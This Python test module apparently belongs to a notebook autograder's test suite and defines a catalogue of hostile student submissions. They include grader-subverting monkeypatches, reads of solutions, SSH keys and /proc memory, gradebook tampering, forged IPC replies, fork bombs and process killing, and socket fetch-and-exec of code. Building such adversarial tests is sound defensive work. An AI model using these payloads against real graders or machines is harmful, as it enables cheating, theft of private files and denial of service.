"""Hostile and broken submissions of the notebook 02-masks, by category.

Most replace the answer to one task, `causal_mask` (3 of the 20 points), by code that tries to get
those points with a wrong answer, to read what students must not see, or to break the grading. In
the code, @COURSE@ stands for the course's folder on the teacher's machine, @REPOSITORY@ for the
repository's, @PORT@ for a port of that machine where a server gives out a correct answer, and
@MARK@ for a file there that must never appear.
"""

import codecs
import copy
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.grader.small_course import RIGHT

TASK = "causal_mask"
ALL, WITHOUT = 20, 17  # points: everything, and everything but the task

WRONG = "\ndef causal_mask(*args, **kwargs):\n    return None\n"
# Defines `steal`, which runs the reference answer in the text of a notebook.
STEAL = """
def steal(text):
    import json
    for cell in json.loads(text)["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "causal_mask":
            exec("".join(cell["source"]), globals())
"""


@dataclass(frozen=True)
class Attack:
    """A submission that is hostile or broken.

    Attributes:
        category: what kind of attack it is.
        name: what it tries, in a few words; it serves as the student's id.
        score: the points that it must get; None if it must not be graded.
        answer: the source of the task's answer cell.
        file: writes the submitted file, given the notebook and the path; None if the notebook is
            submitted as it is.
        told: text that the teacher must read about it.
        noted: text that the graded notebook must show at the task.
    """

    category: str
    name: str
    score: float | None = WITHOUT
    answer: str = WRONG
    file: Callable[[dict, Path], None] | None = None
    told: str = ""
    noted: str = ""


ATTACKS: list[Attack] = []


def add(category: str, name: str, answer: str = "", **about) -> None:
    """Add an attack, with a wrong `causal_mask` above its code, which may define another one."""
    ATTACKS.append(Attack(category, name, answer=WRONG + answer, **about))


# --- cells and metadata -------------------------------------------------------------------


def change(edit: Callable[[list[dict]], list[dict] | None]) -> Callable[[dict, Path], None]:
    """A function for `Attack.file` that changes the cells of the notebook."""

    def make(notebook: dict, path: Path) -> None:
        cells = notebook["cells"]
        notebook["cells"] = edit(cells) or cells
        path.write_text(json.dumps(notebook), encoding="utf-8")

    return make


def of_task(cells: list[dict], what: str = "tests") -> list[dict]:
    """The test cells of the attacked task; its answer cell if `what` is ""."""
    ids = {f"{TASK}_{what}", f"{TASK}_hidden_{what}"} if what else {TASK}
    return [c for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") in ids]


def each_test(edit: Callable[[dict], None]) -> Callable[[dict, Path], None]:
    """A function for `Attack.file` that changes each test cell of the task."""

    def change_each(cells: list[dict]) -> None:
        for cell in of_task(cells):
            edit(cell)

    return change(change_each)


def code(source: str, **metadata) -> dict:
    return {
        "cell_type": "code",
        "id": f"c{abs(hash(source)) % 10**8}",
        "metadata": metadata,
        "source": source,
        "outputs": [],
        "execution_count": None,
    }


CELLS = "cells and metadata"
add(
    CELLS, "tests-deleted", file=change(lambda cells: [c for c in cells if c not in of_task(cells)])
)
add(
    CELLS,
    "all-tests-deleted",
    file=change(
        lambda cells: [c for c in cells if not c["metadata"].get("nbgrader", {}).get("grade")]
    ),
)
add(CELLS, "tests-emptied", file=each_test(lambda cell: cell.update(source="pass")))
add(
    CELLS,
    "tests-skipped-by-tag",
    file=each_test(
        lambda cell: cell["metadata"].update(tags=["skip-execution", "raises-exception"])
    ),
)
add(
    CELLS,
    "points-raised",
    file=each_test(lambda cell: cell["metadata"]["nbgrader"].update(points=1000)),
)
add(
    CELLS,
    "tests-not-graded",
    file=each_test(lambda cell: cell["metadata"]["nbgrader"].update(grade=False)),
)
add(
    CELLS,
    "tests-unlocked-as-answers",
    file=each_test(
        lambda cell: cell["metadata"]["nbgrader"].update(solution=True, locked=False, grade=False)
    ),
)
add(CELLS, "tests-as-text", file=each_test(lambda cell: cell.update(cell_type="markdown")))
add(
    CELLS,
    "tests-doubled",
    file=change(lambda cells: [*cells, *({**c, "source": "pass"} for c in of_task(cells))]),
)
add(CELLS, "order-reversed", file=change(lambda cells: cells[::-1]))
add(
    CELLS,
    "outputs-forged",
    file=each_test(
        lambda cell: cell.update(
            outputs=[
                {
                    "output_type": "execute_result",
                    "data": {"text/plain": "3.0"},
                    "metadata": {},
                    "execution_count": 1,
                }
            ]
        )
    ),
)
add(
    CELLS,
    "verdict-forged-in-metadata",
    file=each_test(lambda cell: cell["metadata"].update(grader={"passed": True, "partial": 3.0})),
)
add(
    CELLS,
    "checks-redefined-in-an-added-cell",
    file=change(
        lambda cells: [cells[0], code("check = check_same_as = lambda *a, **k: None"), *cells[1:]]
    ),
)
add(
    CELLS,
    "kernel-is-a-shell",
    file=lambda notebook, path: path.write_text(
        json.dumps(
            notebook
            | {"metadata": {"kernelspec": {"name": "bash", "display_name": "b", "language": "b"}}}
        ),
        encoding="utf-8",
    ),
)
add(
    CELLS,
    "schema-of-the-future",
    file=each_test(lambda cell: cell["metadata"]["nbgrader"].update(schema_version=99)),
)
add(
    CELLS,
    "answer-cell-doubled-with-another-answer",
    score=ALL,
    told="two cells are causal_mask",
    file=change(
        lambda cells: [
            *(c for c in cells[: cells.index(of_task(cells, "")[0]) + 1]),
            {**of_task(cells, "")[0], "id": "again", "source": RIGHT},
            *cells[cells.index(of_task(cells, "")[0]) + 1 :],
        ]
    ),
)
add(
    CELLS,
    "all-nbgrader-metadata-lost",
    score=ALL,
    told="had lost its nbgrader id",
    answer=RIGHT,
    file=change(lambda cells: [{**c, "metadata": {}} for c in cells]),
)
add(
    CELLS,
    "ids-and-metadata-lost",
    score=ALL,
    told="known by what it defines",
    answer=RIGHT,
    file=change(lambda cells: [{**c, "metadata": {}, "id": f"x{i}"} for i, c in enumerate(cells)]),
)
add(
    CELLS,
    "answer-in-a-cell-of-its-own",
    score=ALL,
    file=change(
        lambda cells: [
            {**c, "source": ""} if c in of_task(cells, "") else c
            for c in [*cells[:2], code(RIGHT), *cells[2:]]
        ]
    ),
)

# --- subverting tests, builtins, IPython and torch ----------------------------------------

SUBVERT = "subverting tests, builtins, IPython, torch"
for name, attack in {
    "assertion-error-replaced": "import builtins\nbuiltins.AssertionError = Exception",
    "abs-and-all-replaced": "import builtins\nbuiltins.abs = lambda x: 0\n"
    "builtins.all = lambda x: True",
    "isinstance-replaced": "import builtins\nbuiltins.isinstance = lambda *a: True",
    "torch-equal-replaced": "torch.equal = torch.allclose = lambda *a, **k: True",
    "check-replaced": "import checking.checks\nchecking.check = lambda *a, **k: None\n"
    "import checking.everywhere\n"
    "checking.checks.compare = checking.everywhere.compare = lambda *a, **k: None",
    "check-failed-swallowed": "import checking\n"
    "checking.CheckFailed.__init__ = lambda *a: (_ for _ in ()).throw(SystemExit(0))",
    "module-replaced": "import sys, types\nsys.modules['checking'] = types.ModuleType('x')",
    "import-hook": "import sys\nsys.meta_path.insert(0, type('F', (), {'find_spec': "
    "lambda *a: None})())",
    "input-transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])",
    "ast-transformer": "import ast\nclass T(ast.NodeTransformer):\n"
    "    def visit_Call(self, node): return ast.Constant(None)\n"
    "get_ipython().ast_transformers.append(T())",
    "cell-hook": "get_ipython().events.register('pre_run_cell', lambda info: "
    "setattr(info, 'raw_cell', 'pass'))",
    "run-cell-replaced": "get_ipython().run_cell = lambda *a, **k: None",
    "trace-function": "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)",
    "compile-replaced": "import builtins\nreal = builtins.compile\n"
    "builtins.compile = lambda s, *a, **k: real('pass', *a, **k)",
    "torch-function-mode": "from torch.overrides import TorchFunctionMode\n"
    "class M(TorchFunctionMode):\n    def __torch_function__(self, f, t, a=(), k=None):\n"
    "        return True\n",
    "error-type-replaced": "import builtins\nbuiltins.Exception = int",
    "systemexit": "def causal_mask(*a, **k): raise SystemExit(0)",
    "keyboard-interrupt": "def causal_mask(*a, **k): raise KeyboardInterrupt",
    "own-base-exception": "class Quiet(BaseException): pass\n"
    "def causal_mask(*a, **k): raise Quiet('passed')",
    "forbidden-lifted": "import checking.bans\nchecking.bans._allowed = True",
}.items():
    # These also keep the student's later answers, which are right, from being defined.
    spoils_later_answers = name in (
        "input-transformer",
        "ast-transformer",
        "compile-replaced",
        "run-cell-replaced",
    )
    add(SUBVERT, name, attack, score=3 if spoils_later_answers else WITHOUT)

# --- equality and numbers -----------------------------------------------------------------

EQUAL = "equality and numbers"
for name, attack in {
    "equal-to-everything": "class Same:\n    def __eq__(self, other): return True\n"
    "    def __getattr__(self, name): return self\n    def __call__(self, *a, **k): return self\n"
    "def causal_mask(*a, **k): return Same()",
    "tensor-subclass": "class Same(torch.Tensor):\n    def __eq__(self, other): "
    "return torch.ones(self.shape, dtype=torch.bool)\n    def __ne__(self, other): "
    "return torch.zeros(self.shape, dtype=torch.bool)\n"
    "def causal_mask(n, c=0, num_cached=0):\n"
    "    return torch.zeros(n, c + num_cached + n, dtype=torch.bool).as_subclass(Same)",
    "torch-function-subclass": "class Same(torch.Tensor):\n    @classmethod\n"
    "    def __torch_function__(cls, f, t, a=(), k=None): return True\n"
    "def causal_mask(n, num_cached=0): return torch.zeros(n, n + num_cached).as_subclass(Same)",
    "all-true": "def causal_mask(n, num_cached=0):\n"
    "    return torch.ones(n, n + num_cached, dtype=torch.bool)",
    "not-a-number": "def causal_mask(n, num_cached=0):\n"
    "    return torch.full((n, n + num_cached), float('nan'))",
    "complex": "def causal_mask(n, num_cached=0):\n"
    "    return torch.ones(n, n + num_cached, dtype=torch.complex64)",
    "sparse": "def causal_mask(n, num_cached=0):\n    return torch.ones(n, n).to_sparse()",
    "meta-tensor": "def causal_mask(n, num_cached=0):\n"
    "    return torch.ones(n, n + num_cached, dtype=torch.bool, device='meta')",
    "quantized": "def causal_mask(n, num_cached=0):\n"
    "    return torch.quantize_per_tensor(torch.ones(n, n), 1.0, 0, torch.qint8)",
    "float-subclass": "class F(float):\n    def __eq__(self, o): return True\n"
    "def causal_mask(*a, **k): return F(1.0)",
    "str-subclass": "class S(str):\n    def __eq__(self, o): return True\n"
    "    def __hash__(self): return 0\ndef causal_mask(*a, **k): return S('x')",
    "dict-with-lies": "class D(dict):\n    def items(self): return [(1, 2)]\n"
    "def causal_mask(*a, **k): return D()",
    "claims-to-be-a-tensor": "class T:\n    __class__ = torch.Tensor\n"
    "    shape = property(lambda s: torch.Size([1, 1]))\ndef causal_mask(*a, **k): return T()",
    "module-as-result": "def causal_mask(*a, **k): return torch.nn.Linear(1, 1)",
    "bytes-neither-true-nor-false": "def causal_mask(n, num_cached=0):\n"
    "    data = bytearray([2]) * n * (n + num_cached)\n"
    "    return torch.frombuffer(data, dtype=torch.bool).view(n, n + num_cached)",
    "numpy-float-subclass": "import numpy\nclass F(numpy.float64):\n"
    "    def __eq__(self, other): return True\ndef causal_mask(*a, **k): return F(1.0)",
    "array-of-objects": "import numpy\nclass Same:\n    def __eq__(self, other): return True\n"
    "def causal_mask(*a, **k): return numpy.array([Same()])",
    "recursive-list": "def causal_mask(*a, **k):\n    x = []\n    x.append(x)\n    return x",
}.items():
    add(EQUAL, name, attack)

# --- reading what students must not see ---------------------------------------------------

READ = "reading tests, solutions, gradebook, others"
for name, attack in {
    "solutions": STEAL
    + "steal(open('@COURSE@/solutions/transformer/02-masks.ipynb', encoding='utf-8').read())",
    "other-submission": STEAL
    + "steal(open('@COURSE@/submitted/aaa-honest/transformer/02-masks.ipynb').read())",
    "search-the-disk": STEAL + "import os\nfor top in ('/', '@COURSE@'):\n"
    "    for folder, _, files in os.walk(top):\n        if folder.startswith(('/proc', '/sys')): "
    "continue\n        for f in files:\n            if f == '02-masks.ipynb':\n"
    "                steal(open(os.path.join(folder, f)).read())",
    "the-bank": "import glob\nfor p in glob.glob('/course/grader/bank/*/*/causal_mask.py') + "
    "glob.glob('@REPOSITORY@/grader/bank/*/*/causal_mask.py'):\n"
    "    for cell in open(p).read().split('# %% ')[1:]:\n"
    "        if cell.startswith('correct'):\n"
    "            exec(cell.partition(chr(10))[2])",
    "gradebook-written": "import sqlite3\ndb = sqlite3.connect('@COURSE@/gradebook.db')\n"
    "db.execute('update grade set manual_score = 3')\ndb.commit()",
    "environment": "import os\nif any('@COURSE@' in v for v in os.environ.values()):\n    exec('''"
    + RIGHT
    + "''')",
    "callers-frame": "def causal_mask(*a, **k):\n    import sys\n    frame = sys._getframe()\n"
    "    while frame:\n"
    "        for value in (*frame.f_locals.values(), *frame.f_globals.values()):\n"
    "            if getattr(value, '__name__', '') == '_reference': return value(*a, **k)\n"
    "        frame = frame.f_back",
    "garbage-collector": "def causal_mask(*a, **k):\n    import gc\n    for value in "
    "gc.get_objects():\n        if getattr(value, '__name__', '') == '_reference' and "
    "callable(value): return value(*a, **k)",
    "input-history": "def causal_mask(*a, **k):\n    exec(In[-1], globals())\n"
    "    return _reference(*a, **k)",
    "judges-memory": "import os\nfor p in os.listdir('/proc'):\n    if p.isdigit() and int(p) != "
    "os.getpid():\n        open(f'/proc/{p}/mem', 'rb').read(1)\n        exec('''" + RIGHT + "''')",
    "judges-objects": "def causal_mask(*a, **k):\n    import gc\n    from grader.border import "
    "Border\n    for border in [o for o in gc.get_objects() if isinstance(o, Border)]:\n"
    "        for handle in range(30):\n            for name in ('__globals__', 'namespace', "
    "'f_globals', 'expected'):\n                try: return border.ask({'op': 'read', 'target': "
    "handle, 'name': name})\n                except Exception: pass",
    "home-and-keys": "import os, glob\nif glob.glob(os.path.expanduser('~root/.ssh/*')) + "
    "glob.glob('/home/*') + glob.glob('/etc/passwd'):\n    exec('''" + RIGHT + "''')",
    "inputs-in-an-error": "def causal_mask(*a, **k):\n    raise ValueError('x' * 100_000)",
}.items():
    add(READ, name, attack)

# --- forging output and replies -----------------------------------------------------------

FORGE = "forging output and replies"
SOCKET = (
    "import os, json, struct\ndef forge(text, sizes=None):\n    text = text.encode()\n"
    "    data = struct.pack('!QQ', *(sizes or (len(text), 0))) + text\n"
    "    for fd in range(3, 64):\n        try: os.write(fd, data)\n        except OSError: pass\n"
)
for name, attack, noted in [
    ("displayhook", "get_ipython().displayhook(3.0)\n3.0", ""),
    (
        "reply-forged",
        SOCKET + "def causal_mask(*a, **k):\n"
        "    forge(json.dumps({'result': ['plain', True]}))\n    return None",
        "",
    ),
    (
        "many-replies-forged",
        SOCKET + "def causal_mask(*a, **k):\n    for _ in range(99): "
        "forge(json.dumps({'result': ['plain', None], 'changed': []}))",
        "",
    ),
    ("huge-size-announced", SOCKET + "forge('', (2**60, 2**60))", "Stopped"),
    (
        "negative-size",
        "from grader.border.writer import Writer\nwrite = Writer._write_tensor\n"
        "def forge(self, value):\n    return [*write(self, value)[:3], [-1, 20_000_000], [1, 0]]\n"
        "def causal_mask(*a, **k):\n    Writer._write_tensor = forge\n"
        "    return torch.zeros(8, 1, dtype=torch.bool)",
        "cannot be read",
    ),
    ("no-json", SOCKET + "forge('{]')", "Stopped"),
    ("deep-json", SOCKET + "forge('[' * 100_000 + ']' * 100_000)", "Stopped"),
    ("unknown-operation", SOCKET + "forge(json.dumps({'op': 'eval', 'text': '1'}))", ""),
    (
        "judges-handles-called",
        SOCKET + "for h in range(9): forge(json.dumps({'op': 'call', "
        "'number': 1, 'target': ['yours', h, []], 'args': ['list', []], 'kwargs': ['dict', []], "
        "'grad': False}))",
        "",
    ),
    (
        "update-of-nothing",
        SOCKET + "forge(json.dumps({'result': ['plain', 1], 'updates': "
        "{'own': [[7, 'w', ['plain', 1]]]}}))",
        "Stopped",
    ),
    ("forged-report", "print('CheckFailed\\nPassed. 3 of 3 points')", ""),
    (
        "html-and-script",
        "from IPython.display import HTML, Javascript, display\n"
        "display(HTML('<script>document.title=\"owned\"</script>'))\n"
        "display(Javascript('document.title=\"owned\"'))\n"
        "print('<script>document.title=\"owned\"</script><img src=x onerror=document.title=1>')\n"
        "# <script>document.title='owned'</script>",
        "",
    ),
    (
        "html-in-an-error",
        "def causal_mask(*a, **k): raise ValueError('<script>document.title=\"owned\"</script>')",
        "",
    ),
    (
        "terminal-control",
        "print('\\x1b]0;owned\\x07\\x1b[2J')\n"
        "def causal_mask(*a, **k): raise ValueError('\\x1b[2J\\x1b]0;owned\\x07')",
        "",
    ),
    ("stderr", "import sys\nprint('no error', file=sys.stderr)\nsys.stdout = sys.stderr", ""),
]:
    add(FORGE, name, attack, noted=noted, score=WITHOUT)

# --- survival and interference ------------------------------------------------------------

SURVIVE = "survival and interference"
LATER = "import time\ntime.sleep(2)\nopen('@MARK@', 'w').write('here')\n"
for name, attack in {
    "daemon": "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        "
    + LATER.replace("\n", "\n        ")
    + "\n        os._exit(0)\n    os._exit(0)",
    "subprocess": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', '''"
    + LATER
    + "'''], start_new_session=True)",
    "thread": "import threading\ndef later():\n    "
    + LATER.replace("\n", "\n    ")
    + "\nthreading.Thread(target=later).start()",
    "marks-the-disk": "open('@MARK@', 'w').write('here')",
    "kill-everything": "import os, signal\nfor p in range(2, 3000):\n    try: os.kill(p, "
    "signal.SIGKILL)\n    except OSError: pass",
    "kill-parent": "import os, signal\nif os.getppid() > 1: os.kill(os.getppid(), signal.SIGKILL)\n"
    "try: os.kill(-1, signal.SIGKILL)\nexcept OSError: pass",
    "ptrace": "import ctypes, os\nlibc = ctypes.CDLL(None)\nif libc.ptrace(16, os.getppid(), 0, 0) "
    "== 0 and os.getppid(): exec('''" + RIGHT + "''')",
    "new-namespaces": "import ctypes\nif ctypes.CDLL(None).unshare(0x10000000) == 0: exec('''"
    + RIGHT
    + "''')",
    "mount": "import ctypes\nif ctypes.CDLL(None).mount(b'proc', b'/scratch', b'proc', 0, 0) == 0: "
    "exec('''" + RIGHT + "''')",
    "system-v-shared-memory": "import ctypes\nif ctypes.CDLL(None).shmget(4711, 4096, 0o1666) >= "
    "0: exec('''" + RIGHT + "''')",
    "alarm": "import signal\nsignal.alarm(1)\nsignal.signal(signal.SIGALRM, lambda *a: None)",
    "terminal-stopped": "import os, signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
    "os.kill(os.getpid(), signal.SIGSTOP)",
    "exec-another-program": "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', "
    "'import time; time.sleep(99)'])",
    "at-exit": "import atexit\natexit.register(lambda: open('@MARK@', 'w').write('here'))",
}.items():
    add(SURVIVE, name, attack)
# What is left at a file that all submissions read, or at the machine, could tell the next one.
LIBRARY = (
    "import ctypes, fcntl, os\nlibc = ctypes.CDLL(None)\nf = os.open(torch.__file__, os.O_RDONLY)\n"
)
for name, attack in {
    "locks-a-library": "fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)",
    "locks-part-of-a-library": "fcntl.lockf(f, fcntl.LOCK_SH | fcntl.LOCK_NB)",
    "drops-a-library-from-memory": "os.posix_fadvise(f, 0, 0, os.POSIX_FADV_DONTNEED)",
    "watches-a-library": "assert libc.inotify_add_watch(libc.inotify_init(), "
    "torch.__file__.encode(), 32) > 0",
    "reads-the-load-of-the-machine": "open('/proc/loadavg').read()",
    "opens-a-shared-terminal": "os.openpty()",
}.items():
    add(SURVIVE, name, f"{LIBRARY}{attack}\nexec('''{RIGHT}''')")
# The first attack leaves a file with the right answer; the second would find it.
add(
    SURVIVE,
    "leaves-a-file",
    "import os\nfor d in ('/scratch', '/tmp', '/dev/shm', '/var/tmp'):\n"
    "    try: open(d + '/left-by-an-attack', 'w').write('''" + RIGHT + "''')\n"
    "    except OSError: pass",
)
add(
    SURVIVE,
    "looks-for-the-file",
    "import os\nfor d in ('/scratch', '/tmp', '/dev/shm', '/var/tmp'):\n"
    "    if os.path.exists(d + '/left-by-an-attack'): exec(open(d + '/left-by-an-attack').read())",
)

# --- exhaustion ---------------------------------------------------------------------------

EXHAUST = "exhaustion"
for name, attack, noted in [
    ("endless-cell", "while True: pass", "did not finish"),
    ("endless-function", "def causal_mask(*a, **k):\n    while True: pass", "did not finish"),
    (
        "endless-in-c",
        "def causal_mask(*a, **k):\n    import re\n    re.match('(a+)+$', 'a' * 60 + 'b')",
        "did not finish",
    ),
    (
        "slow-call",
        "def causal_mask(*a, **k):\n    import time\n    time.sleep(60)",
        "did not finish",
    ),
    ("memory", "x = []\nwhile True: x.append(bytearray(2**24))", ""),
    ("memory-of-torch", "x = torch.ones(2**36)", ""),
    ("fork-bomb", "import os\nwhile True: os.fork()", ""),
    (
        "threads",
        "import threading, time\nfor _ in range(10**4): "
        "threading.Thread(target=time.sleep, args=(99,)).start()",
        "",
    ),
    ("disk", "with open('/scratch/full', 'wb') as f:\n    while True: f.write(bytes(2**20))", ""),
    ("many-files", "for i in range(10**6): open(f'/scratch/{i}', 'w').close()", ""),
    ("open-files", "x = [open('/scratch/x', 'w') for _ in range(10**5)]", ""),
    ("output", "for _ in range(2 * 10**5): print('x' * 1000)", ""),
    ("huge-tensor", "def causal_mask(*a, **k): return torch.zeros(10**9, dtype=torch.bool)", ""),
    (
        "tensor-of-five-gigabytes-in-a-few-bytes",
        "def causal_mask(*a, **k):\n    return torch.zeros(1, dtype=torch.bool).expand(5 * 10**9)",
        "",
    ),
    (
        "tensor-that-only-seems-huge",
        "def causal_mask(*a, **k):\n    return torch.zeros(1, dtype=torch.bool).expand(10**12)",
        "",
    ),
    (
        "sixty-expanded-tensors",
        "def causal_mask(*a, **k):\n    return [torch.zeros(1).expand(15 * 2**20)] * 60",
        "do not cross at once",
    ),
    (
        "sixty-expanded-tensors-forged",
        "from grader.border import writer\nwriter.math.prod = lambda shape: 1\n"
        "def causal_mask(*a, **k):\n    return [torch.zeros(1).expand(15 * 2**20)] * 60",
        "Stopped",
    ),
    (
        "names-of-megabytes",
        "def causal_mask(*a, **k):\n    layer = torch.nn.Module()\n    layer.register_parameter("
        "'x' * 1_500_000, torch.nn.Parameter(torch.ones(1)))\n    return layer",
        "Stopped",
    ),
    (
        "objects-without-end",
        "def causal_mask(*a, **k): return [lambda: 0 for _ in range(20_000)]",
        "objects do not cross",
    ),
    ("range-without-end", "def causal_mask(*a, **k): return range(10**12)", "does not cross"),
    ("recursion", "def causal_mask(*a, **k): return causal_mask(*a, **k)", "RecursionError"),
    (
        "deep-list",
        "def causal_mask(*a, **k):\n    x = []\n    for _ in range(10**5): x = [x]\n    return x",
        "",
    ),
    ("huge-number", "def causal_mask(*a, **k): return 10 ** 10**6", ""),
    ("huge-string", "def causal_mask(*a, **k): return 'x' * 10**8", "does not cross"),
    ("stack-overflow-in-c", "import ctypes\nctypes.string_at(0)", "ended its own process"),
]:
    # Whoever breaks the module math also breaks what an earlier answer returns.
    breaks_math = name == "sixty-expanded-tensors-forged"
    add(EXHAUST, name, attack, noted=noted, score=WITHOUT - 3 if breaks_math else WITHOUT)

# --- network ------------------------------------------------------------------------------

NETWORK = "network"
for name, attack in {
    "loopback": "import socket\ns = socket.create_connection(('127.0.0.1', @PORT@), 2)\n"
    "exec(s.recv(10**5).decode().partition('\\r\\n\\r\\n')[2])",
    "loopback-by-raw-system-calls": "import ctypes, socket, struct\nlibc = ctypes.CDLL(None)\n"
    "fd = libc.socket(2, 1, 0)\nlibc.connect(fd, struct.pack('=HH4s8x', 2, socket.htons(@PORT@), "
    "bytes([127, 0, 0, 1])), 16)\nb = ctypes.create_string_buffer(10**4)\n"
    "n = libc.read(fd, b, 10**4)\nexec(b.raw[:n].decode().partition('\\r\\n\\r\\n')[2])",
    "urllib": "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:@PORT@', "
    "timeout=2).read().decode())",
    "name-lookup": "import socket\nif socket.gethostbyname('localhost'): exec('''" + RIGHT + "''')",
    "unix-socket": "import socket\ns = socket.socket(socket.AF_UNIX)\n"
    "s.connect('@COURSE@/door')\nexec(s.recv(10**5).decode().partition('\\r\\n\\r\\n')[2])",
    "netlink": "import socket\nif socket.socket(socket.AF_NETLINK, socket.SOCK_RAW): exec('''"
    + RIGHT
    + "''')",
}.items():
    add(NETWORK, name, attack)

# --- broken files -------------------------------------------------------------------------

BROKEN = "broken files"


def raw(content: Callable[[str], bytes]) -> Callable[[dict, Path], None]:
    """A function for `Attack.file` that writes bytes made from the text of the notebook."""
    return lambda notebook, path: path.write_bytes(content(json.dumps(notebook))) and None


def linked(notebook: dict, path: Path) -> None:
    course = path.parents[3]
    path.symlink_to(course / "solutions" / "transformer" / path.name)


def with_zip_bomb(notebook: dict, path: Path) -> None:
    path.write_text(json.dumps(notebook), encoding="utf-8")
    with zipfile.ZipFile(path.with_name("data.zip"), "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("zeros", bytes(50 * 2**20))
    path.with_name("escape").symlink_to("/etc")


def as_version_3(notebook: dict) -> dict:
    cells = copy.deepcopy(notebook["cells"])
    for cell in cells:
        if cell["cell_type"] == "code":
            cell["input"] = cell.pop("source")
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}


def edited(edit: Callable[[dict], dict | None]) -> Callable[[dict, Path], None]:
    def make(notebook: dict, path: Path) -> None:
        path.write_text(json.dumps(edit(notebook) or notebook), encoding="utf-8")

    return make


NOT_GRADED = {"score": None, "answer": RIGHT, "told": "Ask the student for the file again"}
add(BROKEN, "truncated", file=raw(lambda text: text[:3000].encode()), **NOT_GRADED)
add(BROKEN, "empty-file", file=lambda notebook, path: path.touch(), **NOT_GRADED)
add(BROKEN, "other-encoding", file=raw(lambda text: text.encode("utf-16")), **NOT_GRADED)
add(BROKEN, "bytes", file=raw(lambda text: os.urandom(5000)), **NOT_GRADED)
add(
    BROKEN, "a-hundred-megabytes", file=raw(lambda text: text.encode() + b" " * 10**8), **NOT_GRADED
)
add(BROKEN, "json-list", file=raw(lambda text: b"[1, 2]"), **NOT_GRADED)
add(BROKEN, "no-cells", file=raw(lambda text: b'{"cells": 3}'), **NOT_GRADED)
add(BROKEN, "deep-json-file", file=raw(lambda text: b"[" * 10**6), **NOT_GRADED)
add(BROKEN, "long-number", file=raw(lambda text: b'{"cells": ' + b"9" * 10**4 + b"}"), **NOT_GRADED)
add(
    BROKEN,
    "thousands-of-cells",
    file=edited(lambda notebook: notebook | {"cells": notebook["cells"] * 100}),
    **NOT_GRADED,
)
add(BROKEN, "link-to-the-solution", file=linked, **NOT_GRADED)
add(BROKEN, "named-pipe", file=lambda notebook, path: os.mkfifo(path), **NOT_GRADED)
add(BROKEN, "folder-for-a-file", file=lambda notebook, path: path.mkdir(), **NOT_GRADED)
add(
    BROKEN,
    "byte-order-mark",
    score=ALL,
    answer=RIGHT,
    file=raw(lambda text: codecs.BOM_UTF8 + text.encode()),
)
add(BROKEN, "version-3", score=ALL, answer=RIGHT, file=edited(as_version_3))
add(
    BROKEN,
    "version-99",
    score=ALL,
    answer=RIGHT,
    file=edited(lambda notebook: notebook | {"nbformat": 99}),
)
add(BROKEN, "zip-bomb-and-link-beside-it", score=ALL, answer=RIGHT, file=with_zip_bomb)
add(
    BROKEN,
    "cells-that-are-none",
    score=ALL,
    answer=RIGHT,
    file=edited(lambda notebook: notebook | {"cells": [None, 3, "x", [], {}, *notebook["cells"]]}),
)
add(
    BROKEN,
    "metadata-that-is-none",
    score=ALL,
    answer=RIGHT,
    file=change(lambda cells: [{**c, "metadata": None} for c in cells]),
    told="had lost its nbgrader id",
)
add(
    BROKEN,
    "source-of-odd-pieces",
    file=change(
        lambda cells: [
            c | ({"source": [1, None, "x ="]} if c in of_task(cells, "") else {}) for c in cells
        ]
    ),
)
add(
    BROKEN,
    "half-a-character",
    answer="x = '\ud800'" + RIGHT,
    score=ALL,
    file=edited(lambda n: None),
)
add(BROKEN, "prints-half-a-surrogate", score=ALL, answer='print("\\ud800")\n' + RIGHT)
add(BROKEN, "raises-half-a-surrogate", answer='raise ValueError("\\ud800")', noted="ValueError")
add(BROKEN, "null-characters", answer=RIGHT + "\0", noted="SyntaxError")
add(BROKEN, "answer-of-a-megabyte", answer=RIGHT + "#" * 10**6, told="counts as empty")
add(BROKEN, "syntax-error", answer="def causal_mask(:\n    pass", noted="SyntaxError")
